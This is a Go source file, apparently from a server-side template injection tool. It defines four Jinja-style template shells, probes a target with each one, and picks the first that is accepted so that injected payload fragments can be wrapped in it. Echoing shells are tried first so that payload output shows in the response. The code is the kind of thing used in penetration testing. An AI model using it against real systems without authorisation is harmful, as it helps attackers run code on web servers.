package ssti

import "fmt"

// OuterPattern is one statement shell containing a single substitution slot
// for an inner expression fragment.
type OuterPattern struct {
	Name     string
	WillEcho bool

	// probe is the exact literal submitted to the oracle to test whether
	// this shell is accepted at all.
	probe string
	// wrap splices inner into the shell.
	wrap func(inner string) string
}

func (p OuterPattern) Wrap(inner string) string { return p.wrap(inner) }

// outerPatterns is the fixed, ordered list probed by selectOuterPattern:
// {{}}, {%print()%}, {%if()%}{%endif%}, {%set x= %}, in that order. The
// probe text is the empty-slot shell itself, bit-exact; echoing shells come
// first so output-visible payloads win whenever the target allows them.
func outerPatterns() []OuterPattern {
	return []OuterPattern{
		{
			Name:     "expression",
			WillEcho: true,
			probe:    "{{}}",
			wrap:     func(inner string) string { return fmt.Sprintf("{{%s}}", inner) },
		},
		{
			Name:     "print",
			WillEcho: true,
			probe:    "{%print()%}",
			wrap:     func(inner string) string { return fmt.Sprintf("{%%print(%s)%%}", inner) },
		},
		{
			Name:     "if",
			WillEcho: false,
			probe:    "{%if()%}{%endif%}",
			wrap:     func(inner string) string { return fmt.Sprintf("{%%if(%s)%%}{%%endif%%}", inner) },
		},
		{
			Name:     "set",
			WillEcho: false,
			probe:    "{%set x= %}",
			wrap:     func(inner string) string { return fmt.Sprintf("{%%set x=%s %%}", inner) },
		},
	}
}

// selectOuterPattern probes each candidate in order and returns the first
// the oracle accepts. ok is false if none are accepted, which fails the
// owning assembler's preparation terminally.
func selectOuterPattern(oracle Oracle) (OuterPattern, bool) {
	for _, p := range outerPatterns() {
		if oracle(p.probe) {
			return p, true
		}
	}
	return OuterPattern{}, false
}
